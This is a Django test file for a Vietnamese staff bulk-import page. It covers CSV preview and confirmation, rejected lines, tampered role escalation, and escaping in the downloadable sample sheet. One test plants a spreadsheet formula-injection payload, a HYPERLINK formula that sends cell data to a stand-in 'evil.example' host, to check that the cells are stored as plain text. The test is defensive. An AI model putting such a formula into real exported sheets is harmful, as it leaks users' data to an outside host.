"""A sheet of people on the screen: looked at first, then entered whole."""

import io
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponseBase
from django.test import Client

from motcua.org import services
from motcua.org.acts import Role
from motcua.org.selectors import actor_for
from motcua.testing import facts
from motcua.testing.office import DIVISION, FIRST_DAY
from tests.web.conftest import SignedIn
from tests.web.pages import text

IMPORT = "/quan-tri/can-bo/nhap/"
HEAD = "Tên đăng nhập,Họ và tên,Mã đơn vị,Vai trò\n"
GOOD = f"an.lt,Lê Thị An,{DIVISION},Chuyên viên\nbinh.nv,Nguyễn Văn Bình,{DIVISION},specialist\n"


@pytest.fixture
def admin(as_role: SignedIn) -> Client:
    return as_role(Role.ADMINISTRATOR)


def send(browser: Client, content: str | bytes) -> HttpResponseBase:
    body = content.encode() if isinstance(content, str) else content
    return browser.post(IMPORT, {"file": SimpleUploadedFile("a.csv", body)})


def lines(page: str) -> str:
    found = re.search(r'name="lines" value="([^"]*)"', page)
    assert found is not None
    return found[1].replace("&#34;", '"')


def test_a_good_sheet_is_shown_first_and_entered_on_the_second_press(
    admin: Client, visitor: Client
) -> None:
    looked = text(send(admin, HEAD + GOOD))
    assert "Tạo 2 tài khoản" in looked
    assert actor_for("an.lt", today=facts.TODAY) is None
    done = text(admin.post(IMPORT, {"lines": lines(looked)}))
    assert "Đã tạo 2 tài khoản" in done
    first = re.search(r"an\.lt</code></td><td><code[^>]*>([a-z0-9-]{14})<", done)
    assert first is not None
    entered = visitor.post("/dang-nhap/", {"username": "an.lt", "password": first[1]})
    assert entered.status_code == 302
    again = admin.post(IMPORT, {"lines": lines(looked)})
    assert again.status_code == 422, "the names are taken now"


def test_a_bad_line_is_named_and_nobody_can_be_entered(admin: Client) -> None:
    answer = send(admin, f"{HEAD}{GOOD}leader,Ai đó,{DIVISION},Chuyên viên\nx,X,H99,Chuyên viên\n")
    page = text(answer)
    assert answer.status_code == 422
    assert "Có 2 dòng chưa dùng được" in page
    assert "Tên đăng nhập leader đã có người dùng" in page
    assert "Không có đơn vị “H99”" in page
    assert 'name="lines"' not in page


@pytest.mark.parametrize("content", ["", "tên,tuổi\nAn,30\n", b"PK\x03\x04xx", b"\xff\xfe\x00"])
def test_what_is_no_such_sheet_is_told_beside_the_field(
    admin: Client, content: str | bytes
) -> None:
    answer = send(admin, content)
    assert answer.status_code == 422
    assert 'id="file-err"' in text(answer)
    assert admin.post(IMPORT).status_code == 422


def test_lines_that_somebody_has_meddled_with_enter_nobody_wrong(as_role: SignedIn) -> None:
    browser = as_role(Role.UNIT_ADMINISTRATOR)
    looked = text(send(browser, HEAD + GOOD))
    changed = lines(looked).replace("Chuyên viên", "administrator")
    assert browser.post(IMPORT, {"lines": changed}).status_code == 422
    assert actor_for("an.lt", today=facts.TODAY) is None


def test_a_unit_called_like_a_formula_is_a_text_in_the_sample_sheet(admin: Client) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    for number, called in enumerate((name, "{=1+1}", "https://evil.example", "+1", "@x")):
        services.ensure_unit(code=f"H37.6{number}", name=called, valid_from=FIRST_DAY)
    content: bytes = getattr(admin.get(f"{IMPORT}mau.xlsx"), "content", b"")
    _, known = openpyxl.load_workbook(io.BytesIO(content)).worksheets
    cells = [cell for row in known.iter_rows() for cell in row if cell.value is not None]
    assert name in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)


def test_the_sample_sheet_has_the_columns_that_are_read(admin: Client) -> None:
    answer = admin.get(f"{IMPORT}mau.xlsx")
    assert "attachment" in answer.headers["Content-Disposition"]
    content: bytes = getattr(answer, "content", b"")
    people, known = openpyxl.load_workbook(io.BytesIO(content)).worksheets
    assert [cell.value for cell in people[1]][:2] == ["Tên đăng nhập", "Họ và tên"]
    codes = [row[0] for row in known.values]
    assert DIVISION in codes
